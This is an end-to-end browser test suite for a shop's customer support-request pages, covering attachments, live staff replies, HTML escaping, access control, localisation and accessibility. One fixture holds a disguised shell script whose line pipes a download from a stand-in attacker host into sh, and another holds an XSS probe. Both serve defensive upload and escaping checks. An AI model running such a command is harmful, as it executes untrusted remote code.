/**
 * The customer's support requests on the real storefront (real server, worker and storefront
 * processes, Chromium; plugins/support-threads): a customer asks a question about one of their
 * orders from the order page with an image attached, sees it listed, and a staff reply sent
 * through the Admin API appears on the open request page without a reload and as an unread
 * badge on the list; what they typed (`<script>`, `<b>`) shows as text; a script renamed `.png`
 * is refused with a clear error, what they typed is kept and nothing is stored; closing and the
 * follow-up request; another customer's request answers 404 (page, live stream and posts); the
 * English pages and the `ci` (XOF) shop; axe-core finds no accessibility violation.
 */
import AxeBuilder from '@axe-core/playwright';
import path from 'node:path';
import { Page } from 'playwright-core';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BrowserShop, SCREENSHOTS, startBrowserShop } from '../support/browser-shop';

const AISSATA = {
    email: 'aissata.kone@example.com',
    password: 'fleur-de-lys-2026',
    first: 'Aïssata',
    last: 'Koné',
};
const KOFFI = {
    email: 'koffi.mensah@example.com',
    password: 'lagune-ebrie-2026',
    first: 'Koffi',
    last: 'Mensah',
};

describe('support requests in Chromium', () => {
    let shop: BrowserShop;
    let storefront: string;
    let adminToken: string;
    /** Pages checked by axe, with their violations, for one assertion per test. */
    let violations: Record<string, string[]> = {};
    /** Aïssata's first request, for the ownership checks. */
    let threadId: string | undefined;

    beforeAll(async () => {
        shop = await startBrowserShop();
        storefront = shop.storefront;
        adminToken = await shop.adminToken();
        for (const who of [AISSATA, KOFFI]) {
            const created = await shop.adminQuery<{ createCustomer: { id?: string } }>(
                `mutation ($input: CreateCustomerInput!, $password: String!) { createCustomer(input: $input, password: $password) { ... on Customer { id } ... on ErrorResult { errorCode message } } }`,
                {
                    input: { emailAddress: who.email, firstName: who.first, lastName: who.last },
                    password: who.password,
                },
                adminToken,
                'fr',
            );
            expect(created.body.data.createCustomer.id, JSON.stringify(created.body)).toBeTruthy();
        }
    }, 600_000);

    afterAll(async () => {
        await shop?.stop();
    });

    /** axe-core (WCAG 2.x A/AA) on the page's main content, plus a full-page screenshot. */
    async function check(page: Page, name: string): Promise<void> {
        await page.screenshot({ path: path.join(SCREENSHOTS, `support-${name}.png`), fullPage: true });
        const result = await new AxeBuilder({ page: page as never })
            .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'])
            .exclude('body > header')
            .exclude('body > footer')
            .analyze();
        const found = result.violations.map(
            v => `${v.id} (${v.impact}): ${v.nodes.map(n => n.target.join(' ')).join(', ')}`,
        );
        if (found.length > 0) violations[name] = found;
    }

    async function signIn(page: Page, who: typeof AISSATA): Promise<void> {
        await page.goto(`${storefront}/compte/connexion`);
        await page.getByLabel('Adresse e-mail').fill(who.email);
        await page.getByLabel('Mot de passe').fill(who.password);
        await page.getByRole('button', { name: 'Se connecter' }).click();
        await page.waitForURL(`${storefront}/compte`);
    }

    /** A signed-in checkout of one product with the test payment; returns the order code. */
    async function placeOrder(page: Page): Promise<string> {
        await page.goto(`${storefront}/products/elie-saab-le-parfum`);
        await page.locator('label', { hasText: '90 ml' }).click();
        await page.getByRole('button', { name: 'Ajouter au panier' }).click();
        await page.waitForURL('**/cart');
        await page.goto(`${storefront}/checkout/contact`);
        await page.getByRole('button', { name: /Continuer vers l.adresse/ }).click();
        await page.waitForURL('**/checkout/shipping');
        await page.locator('[name="fullName"]').fill(`${AISSATA.first} ${AISSATA.last}`);
        await page.locator('[name="streetLine1"]').fill('3 place Bellecour');
        await page.locator('[name="postalCode"]').fill('69002');
        await page.locator('[name="city"]').fill('Lyon');
        await page.locator('[name="countryCode"]').selectOption('FR');
        await page.locator('[name="phoneNumber"]').fill('+33 6 11 22 33 44');
        await page.getByRole('button', { name: 'Continuer vers la livraison' }).click();
        await page.waitForURL('**/checkout/delivery');
        await page.locator('[name="shippingMethodId"]').first().check();
        await page.getByRole('button', { name: 'Continuer vers le paiement' }).click();
        await page.waitForURL('**/checkout/payment');
        await page.locator('label', { hasText: 'Paiement de test' }).click();
        await page.getByRole('button', { name: 'Vérifier ma commande' }).click();
        await page.waitForURL('**/checkout/review**');
        await page.getByRole('button', { name: 'Payer la commande' }).click();
        await page.waitForURL('**/checkout/confirmation/**');
        return (await page.locator('[data-order-code]').first().innerText()).trim();
    }

    /** A staff reply on a thread through the Admin API (as the Dashboard sends it). */
    async function staffReply(id: string, body: string, channel = 'fr'): Promise<void> {
        const reply = await shop.adminQuery<{ replyToSupportThread: { id?: string } }>(
            `mutation ($input: ReplyToSupportThreadInput!) { replyToSupportThread(input: $input) { ... on SupportThread { id } ... on ErrorResult { errorCode message } } }`,
            { input: { threadId: id, body } },
            adminToken,
            channel,
        );
        expect(reply.body.data?.replyToSupportThread.id, JSON.stringify(reply.body)).toBe(id);
    }

    /** The Assets whose name contains `name` (attachments are Assets). */
    async function assetsNamed(name: string): Promise<number> {
        const found = await shop.adminQuery<{ assets: { totalItems: number } }>(
            `query ($name: String!) { assets(options: { filter: { name: { contains: $name } } }) { totalItems } }`,
            { name },
            adminToken,
            'fr',
        );
        return found.body.data.assets.totalItems;
    }

    it('asks about an order with a photo; a staff reply arrives live; text stays text; a fake image is refused; close and follow up', async () => {
        violations = {};
        const { context, page } = await shop.newPage();
        const dialogs: string[] = [];
        page.on('dialog', dialog => {
            dialogs.push(dialog.message());
            void dialog.dismiss();
        });
        try {
            await signIn(page, AISSATA);
            const code = await placeOrder(page);

            // From the order page: "A question about this order?" preselects the order.
            await page.goto(`${storefront}/compte/commandes/${code}`);
            await page
                .locator('[data-section="support"]')
                .getByRole('link', { name: 'Poser une question' })
                .click();
            await page.waitForURL(`**/compte/demandes?commande=${code}#nouvelle-demande`);
            expect(await page.locator('#orderId option:checked').innerText()).toContain(code);
            await check(page, 'list-empty');

            // Nothing typed: every field says what is missing, and nothing is sent.
            await page.getByRole('button', { name: 'Envoyer la demande' }).click();
            await page.locator('#body-error').waitFor();
            expect(await page.locator('#subject').getAttribute('aria-invalid')).toBe('true');
            expect(await page.locator('#body').getAttribute('aria-describedby')).toContain('body-error');
            expect(await page.locator('#subject-error').innerText()).toContain('objet');
            await check(page, 'new-errors');

            const photo = await sharp({
                create: { width: 480, height: 360, channels: 3, background: { r: 182, g: 154, b: 100 } },
            })
                .png()
                .toBuffer();
            await page.getByLabel('Objet de la demande').fill('Flacon abîmé <b>x</b>');
            await page
                .getByLabel('Votre message')
                .fill(
                    'Bonjour,\nle flacon est arrivé fêlé <script>alert(1)</script> et <b>x</b>.\nPhoto : https://example.com/photo.',
                );
            await page.getByLabel('Pièces jointes (facultatif)').setInputFiles({
                name: 'flacon fêlé.png',
                mimeType: 'image/png',
                buffer: photo,
            });
            await page.getByRole('button', { name: 'Envoyer la demande' }).click();
            await page.waitForURL(/\/compte\/demandes\/[^/]+$/);
            threadId = new URL(page.url()).pathname.split('/').pop()!;
            expect(await page.getByRole('status').first().innerText()).toContain(
                'Votre demande a été envoyée',
            );
            expect(await page.locator('h1').innerText()).toBe('Flacon abîmé <b>x</b>');
            expect(await page.locator('[data-thread-status]').innerText()).toBe('Ouverte');
            expect(await page.locator('[data-order-code]').innerText()).toBe(code);
            const first = page.locator('[data-messages] > li').first();
            expect(await first.getAttribute('data-author')).toBe('customer');
            const body = first.locator('[data-body]');
            expect(await body.innerText()).toContain('fêlé <script>alert(1)</script> et <b>x</b>.');
            expect(await body.locator('b, script').count()).toBe(0);
            // Line breaks kept, the address a link (without the final full stop).
            expect(await body.innerText()).toContain('Bonjour,\nle flacon');
            expect(await body.getByRole('link').getAttribute('href')).toBe('https://example.com/photo');
            const thumbnail = first.locator('[data-attachments] img');
            expect(await thumbnail.getAttribute('alt')).toContain('flacon-fele.png');
            await expect
                .poll(() => thumbnail.evaluate(img => (img as { naturalWidth: number }).naturalWidth))
                .toBeGreaterThan(0);
            await check(page, 'thread');

            // Listed with its status and order.
            await page.goto(`${storefront}/compte/demandes`);
            const row = page.locator(`[data-thread="${threadId}"]`);
            expect(await row.innerText()).toContain('Flacon abîmé <b>x</b>');
            expect(await row.locator('[data-order-code]').innerText()).toContain(code);
            expect(await row.textContent()).toContain('Ouverte');
            expect(await row.locator('[data-unread]').count()).toBe(0);

            // A script renamed .png: refused with a clear message, the text kept, nothing stored.
            await page.goto(`${storefront}/compte/demandes/${threadId}`);
            await page.getByLabel('Votre message').fill('Voici la facture.');
            await page.getByLabel('Pièces jointes (facultatif)').setInputFiles({
                name: 'facture-piege.png',
                mimeType: 'image/png',
                buffer: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
            });
            const refused = page.waitForResponse(r => r.request().method() === 'POST');
            await page.getByRole('button', { name: 'Envoyer', exact: true }).click();
            expect((await refused).status()).toBe(422);
            await page.locator('#attachments-error').waitFor();
            expect(await page.locator('#attachments-error').innerText()).toBe(
                '« facture-piege.png » n’est ni une image (PNG, JPEG, WebP, GIF) ni un PDF.',
            );
            expect(await page.locator('#attachments').getAttribute('aria-invalid')).toBe('true');
            expect(await page.locator('#body').inputValue()).toBe('Voici la facture.');
            expect(await page.locator('[data-messages] > li').count()).toBe(1);
            expect(await assetsNamed('facture-piege')).toBe(0);
            await check(page, 'thread-refused');

            // The open page follows the request: a staff reply shows up without a reload.
            await page.goto(`${storefront}/compte/demandes/${threadId}`);
            await page.locator('[data-messages][data-live-state="open"]').waitFor();
            await staffReply(
                threadId,
                'Bonjour Aïssata,\nnous envoyons un nouveau flacon <i>aujourd’hui</i> : https://radiant.example/suivi',
            );
            const reply = page.locator('[data-messages] > li[data-author="staff"]');
            await reply.waitFor({ timeout: 20_000 });
            expect(await reply.locator('[data-body]').innerText()).toContain(
                'nouveau flacon <i>aujourd’hui</i>',
            );
            expect(await reply.locator('[data-body] i').count()).toBe(0);
            expect(await reply.locator('[data-body] a').getAttribute('href')).toBe(
                'https://radiant.example/suivi',
            );
            expect(await page.locator('[data-live-status]').innerText()).toContain('Nouveau message de');
            await check(page, 'thread-live');

            // Not read yet (only appended): the list shows the badge; showing the page reads it.
            const list = await context.newPage();
            await list.goto(`${storefront}/compte/demandes`);
            expect(await list.locator(`[data-thread="${threadId}"] [data-unread]`).innerText()).toBe(
                '1 nouvelle réponse',
            );
            expect(await list.locator(`[data-thread="${threadId}"]`).textContent()).toContain(
                'Réponse reçue',
            );
            await check(list, 'list-unread');
            await page.reload();
            expect(await page.locator('[data-messages] > li[data-author="staff"]').textContent()).toContain(
                'Nouveau',
            );
            await list.reload();
            expect(await list.locator(`[data-thread="${threadId}"] [data-unread]`).count()).toBe(0);
            await list.close();

            // Close it: no more replies, a follow-up request instead.
            await page.getByRole('button', { name: 'Clore cette demande' }).click();
            await page.waitForURL(`**/compte/demandes/${threadId}`);
            expect(await page.locator('[data-thread-status]').innerText()).toBe('Close');
            expect(await page.locator('[data-closed]').innerText()).toBe('Cette demande est close.');
            expect(await page.getByRole('button', { name: 'Envoyer', exact: true }).count()).toBe(0);
            await check(page, 'thread-closed');
            expect(await page.getByLabel('Objet').inputValue()).toBe('Suite : Flacon abîmé <b>x</b>');
            await page.getByLabel('Votre message').fill('Le nouveau flacon est bien arrivé, merci !');
            await page.getByRole('button', { name: 'Ouvrir une nouvelle demande' }).click();
            await page.waitForURL(url => !url.pathname.endsWith(`/${threadId}`));
            expect(await page.locator('h1').innerText()).toBe('Suite : Flacon abîmé <b>x</b>');
            expect(await page.getByRole('link', { name: `#${threadId}` }).count()).toBe(1);
        } finally {
            await context.close();
        }
        expect(dialogs).toEqual([]);
        expect(violations).toEqual({});
    }, 400_000);

    it('answers 404 for another customer’s request: page, live stream and posts', async () => {
        expect(threadId).toBeDefined();
        const { context, page } = await shop.newPage();
        try {
            await signIn(page, KOFFI);
            const shown = await page.goto(`${storefront}/compte/demandes/${threadId}`);
            expect(shown?.status()).toBe(404);
            const stream = await context.request.get(`${storefront}/compte/demandes/${threadId}/live`);
            expect(stream.status()).toBe(404);
            const post = await context.request.post(`${storefront}/compte/demandes/${threadId}`, {
                multipart: { action: 'reply', body: 'Je lis la demande des autres ?' },
                headers: { origin: storefront },
            });
            expect(post.status()).toBe(404);
            // Signed out, the stream is refused too.
            const anonymous = await shop.browser.newContext();
            const refused = await anonymous.request.get(`${storefront}/compte/demandes/${threadId}/live`);
            expect(refused.status()).toBe(403);
            await anonymous.close();
        } finally {
            await context.close();
        }
    });

    it('works in English and on the ci (XOF) shop', async () => {
        violations = {};
        const { context, page } = await shop.newPage({ locale: 'en-GB' });
        try {
            await signIn(page, AISSATA);
            await page.goto(`${storefront}/en/compte/demandes`);
            expect(await page.locator('h1').innerText()).toBe('My requests');
            expect(
                await page
                    .getByRole('navigation', { name: 'Account navigation' })
                    .getByRole('link', { name: 'My requests' })
                    .getAttribute('aria-current'),
            ).toBe('page');
            // Two requests on the fr shop (the first one and its follow-up).
            expect(await page.locator('[data-thread]').count()).toBe(2);
            expect(await page.locator(`[data-thread="${threadId}"]`).textContent()).toContain('Closed');
            await check(page, 'en-list');
            await page.goto(`${storefront}/en/compte/demandes/${threadId}`);
            expect(await page.locator('[data-closed]').innerText()).toBe('This request is closed.');
            expect(await page.getByLabel('Subject').inputValue()).toBe('Follow-up: Flacon abîmé <b>x</b>');
            // The thumbnail and the live stream are the same unprefixed URLs in both languages.
            const enThumbnail = page.locator('[data-attachments] img');
            await expect
                .poll(() => enThumbnail.evaluate(img => (img as { naturalWidth: number }).naturalWidth))
                .toBeGreaterThan(0);
            await check(page, 'en-thread-closed');

            // The ci shop: its own requests (none yet), in English.
            await page.goto(`${storefront}/en/compte/demandes`);
            await page.locator('form[action$="/channel"] button[value="ci"]').first().click();
            await page.waitForURL(`${storefront}/en/compte/demandes`);
            expect(await page.locator('[data-thread]').count()).toBe(0);
            await page.getByRole('button', { name: 'Send the request' }).click();
            await page.locator('#body-error').waitFor();
            expect(await page.locator('#body-error').innerText()).toBe('Write your message.');
            expect(await page.locator('#subject-error').innerText()).toBe(
                'Enter the subject of your request.',
            );
            await check(page, 'en-ci-new-errors');
            await page.getByLabel('Subject of the request').fill('Delivery to Abidjan');
            await page.getByLabel('Your message').fill('Do you deliver to Cocody?');
            await page.getByRole('button', { name: 'Send the request' }).click();
            await page.waitForURL(/\/en\/compte\/demandes\/[^/]+$/);
            const ciThread = new URL(page.url()).pathname.split('/').pop()!;
            expect(await page.getByRole('status').first().innerText()).toContain(
                'Your request has been sent',
            );
            expect(await page.locator('[data-thread-status]').innerText()).toBe('Open');
            await page.locator('[data-messages][data-live-state="open"]').waitFor();
            await staffReply(ciThread, 'Yes, within 48 hours.', 'ci');
            await page.locator('[data-messages] > li[data-author="staff"]').waitFor({ timeout: 20_000 });
            await check(page, 'en-ci-thread-live');
            // The French page of the same shop.
            await page.goto(`${storefront}/compte/demandes`);
            expect(await page.locator(`[data-thread="${ciThread}"] [data-unread]`).innerText()).toBe(
                '1 nouvelle réponse',
            );
            await check(page, 'fr-ci-list');
        } finally {
            await context.close();
        }
        expect(violations).toEqual({});
    }, 300_000);
});
